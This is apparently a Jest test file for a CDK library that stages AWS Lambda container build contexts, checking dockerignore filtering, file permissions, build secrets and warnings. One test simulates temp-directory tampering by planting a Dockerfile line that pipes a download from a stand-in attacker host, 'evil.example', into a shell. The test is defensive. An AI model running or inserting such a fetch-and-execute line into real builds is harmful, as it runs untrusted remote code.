import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import * as fc from 'fast-check';
import { sourceDir } from './support';
import { LambdaBaseImage, SourceBuildSecret } from '../../lib/dockerfile';
import { DEFAULT_EXCLUDES, renderDockerignore } from '../../lib/dockerfile/dockerignore';
import { stageSourceImage } from '../../lib/dockerfile/stage-source';
import { tempDir } from '../support/temp-dir';

const FILES = {
  'app.py': 'def lambda_handler(e, c):\n    return 1\n',
  'requirements.txt': 'six==1.16.0\n',
  'lib/util.py': 'X = 1\n',
  '.git/HEAD': 'ref: refs/heads/main\n',
  '__pycache__/app.cpython-312.pyc': 'x',
  'lib/__pycache__/util.cpython-312.pyc': 'x',
  '.env': 'SECRET=1',
  '.env.local': 'SECRET=2',
  'tests/test_app.py': 'def test(): pass',
  'test_util.py': 'def test(): pass',
  'cdk.out/manifest.json': '{}',
  'node_modules/x/index.js': '',
  '.pytest_cache/v': '',
  'docs/readme.md': '# docs',
  'Dockerfile': 'FROM scratch\n',
};
const OPTIONS = { base: LambdaBaseImage.PYTHON_3_13, handler: 'app.lambda_handler' };

function listFiles(dir: string, rel = ''): string[] {
  return fs.readdirSync(path.join(dir, rel), { withFileTypes: true }).flatMap(e => {
    const r = rel ? `${rel}/${e.name}` : e.name;
    return e.isDirectory() ? listFiles(dir, r) : [r];
  }).sort();
}

afterEach(() => jest.restoreAllMocks());
/** Points os.tmpdir() at an empty directory of this test's own, so other test files staging in parallel do not interfere. */
function privateTmpdir(): string {
  const dir = tempDir('ccf-unit-tmp-');
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  jest.spyOn(require('os') as typeof os, 'tmpdir').mockReturnValue(dir);
  return dir;
}

describe('stageSourceImage', () => {
  test('stages a filtered copy with the generated files in a temp directory, leaving the source untouched', () => {
    const src = sourceDir(FILES);
    const before = listFiles(src);
    const staged = stageSourceImage('S/Fn', src, { ...OPTIONS, exclude: ['docs'] });
    expect(staged.directory.startsWith(os.tmpdir())).toBe(true);
    expect(path.relative(src, staged.directory).startsWith('..')).toBe(true);
    expect(staged.file).toBe('Dockerfile');
    expect(listFiles(staged.directory)).toEqual(['.dockerignore', 'Dockerfile', 'app.py', 'lib/util.py', 'requirements.txt']);
    expect(fs.readFileSync(path.join(staged.directory, 'Dockerfile'), 'utf8')).toBe(staged.dockerfile);
    expect(fs.readFileSync(path.join(staged.directory, '.dockerignore'), 'utf8')).toBe(staged.dockerignore);
    expect(listFiles(src)).toEqual(before);
    expect(fs.readFileSync(path.join(src, 'Dockerfile'), 'utf8')).toBe('FROM scratch\n');
    expect(staged.warnings.map(w => w.id)).toEqual(['cdk-container-function:DockerfileIgnored']);
  });

  test('every staging gets a fresh private directory: one left behind (or planted under its name) is never reused', () => {
    const a = stageSourceImage('S/Fn', sourceDir(FILES), OPTIONS);
    // Someone with access to the temp directory swaps the content of a staged context...
    fs.writeFileSync(path.join(a.directory, 'Dockerfile'), 'FROM attacker\nRUN curl https://evil.example | sh\n');
    fs.writeFileSync(path.join(a.directory, 'app.py'), 'planted');
    // ...the next staging of the same source must not pick it up.
    const b = stageSourceImage('Other/Fn', sourceDir(FILES), OPTIONS);
    expect(b.directory).not.toBe(a.directory);
    expect(fs.readFileSync(path.join(b.directory, 'Dockerfile'), 'utf8')).toBe(b.dockerfile);
    expect(fs.readFileSync(path.join(b.directory, 'app.py'), 'utf8')).toBe(FILES['app.py']);
    expect(b.dockerfile).toBe(a.dockerfile);
    // Private to the user who synthesizes.
    expect(fs.statSync(b.directory).mode.toString(8)).toMatch(/700$/);
  });

  test('reading only the Dockerfile text copies nothing', () => {
    const src = sourceDir(FILES);
    const tmp = privateTmpdir();
    const staged = stageSourceImage('S/Fn', src, OPTIONS);
    expect(staged.dockerfile).toContain('CMD ["app.lambda_handler"]');
    expect(fs.readdirSync(tmp)).toEqual([]);
    expect(path.dirname(staged.directory)).toBe(tmp); // the copy happens on first need
    expect(fs.readdirSync(tmp)).toHaveLength(1);
  });

  test('executable bits survive staging', () => {
    const src = sourceDir({ bootstrap: '#!/bin/sh\n' });
    fs.chmodSync(path.join(src, 'bootstrap'), 0o755);
    const staged = stageSourceImage('S/Fn', src, { base: LambdaBaseImage.PROVIDED_AL2023, handler: 'bootstrap' });
    expect(fs.statSync(path.join(staged.directory, 'bootstrap')).mode.toString(8)).toMatch(/7[0-7][0-7]$/);
  });

  test('negated excludes re-include files', () => {
    const staged = stageSourceImage('S/Fn', sourceDir(FILES), { ...OPTIONS, exclude: ['!tests'] });
    expect(listFiles(staged.directory)).toContain('tests/test_app.py');
  });

  test('build secrets map to DockerBuildSecret.fromSrc values; a missing secret file warns', () => {
    const secretDir = tempDir('ccf-secret-');
    fs.writeFileSync(path.join(secretDir, 'url'), 'https://u:p@pypi.example.com/simple');
    const staged = stageSourceImage('S/Fn', sourceDir(FILES), {
      ...OPTIONS, buildSecrets: [SourceBuildSecret.pipIndexUrl(path.join(secretDir, 'url')), SourceBuildSecret.caBundle('/nonexistent/ca.pem')],
    });
    expect(staged.buildSecrets).toEqual({ 'pip-index-url': `src=${path.join(secretDir, 'url')}`, 'ca-bundle': 'src=/nonexistent/ca.pem' });
    expect(staged.warnings.map(w => w.id)).toContain('cdk-container-function:BuildSecretMissing');
    expect(fs.readdirSync(staged.directory).join()).not.toContain('url');
  });

  test('deprecated bases and secret-looking environment variables warn', () => {
    const staged = stageSourceImage('S/Fn', sourceDir({ 'index.js': '' }), {
      base: LambdaBaseImage.NODEJS_20, handler: 'index.handler', environment: { API_TOKEN: 'x', STAGE: 'prod' },
    });
    const byId = Object.fromEntries(staged.warnings.map(w => [w.id, w.message]));
    expect(byId['cdk-container-function:DeprecatedBaseImage']).toMatch(/nodejs20\.x was deprecated by AWS Lambda on 2026-04-30/);
    expect(byId['cdk-container-function:SecretInEnvironment']).toMatch(/API_TOKEN looks like a secret/);
    expect(Object.keys(byId)).toHaveLength(2);
  });

  test('random handlers never crash: they stage or fail with the construct path', () => {
    const src = sourceDir({ 'app.py': '' });
    fc.assert(fc.property(fc.string({ maxLength: 40 }), handler => {
      try {
        stageSourceImage('S/Fn', src, { base: LambdaBaseImage.PYTHON_3_13, handler });
        return handler === 'app.lambda_handler' || /^app\.[A-Za-z_]\w*$/.test(handler);
      } catch (e) {
        return e instanceof Error && e.message.startsWith('S/Fn: ');
      }
    }), { numRuns: 200 });
  });
});

describe('.dockerignore', () => {
  test('excludes VCS data, dependencies, caches, cdk.out, env files and tests, then the user patterns', () => {
    const text = renderDockerignore(['docs', '!docs/keep.md']);
    for (const p of ['.git', '**/node_modules', '**/__pycache__', '**/*.pyc', '**/.pytest_cache', 'cdk.out', '**/.env*', 'test', 'tests', '**/__tests__']) {
      expect(DEFAULT_EXCLUDES).toContain(p);
      expect(text.split('\n')).toContain(p);
    }
    expect(text.endsWith('# from the exclude option\ndocs\n!docs/keep.md\n')).toBe(true);
    expect(renderDockerignore()).not.toContain('exclude option\n');
  });
});
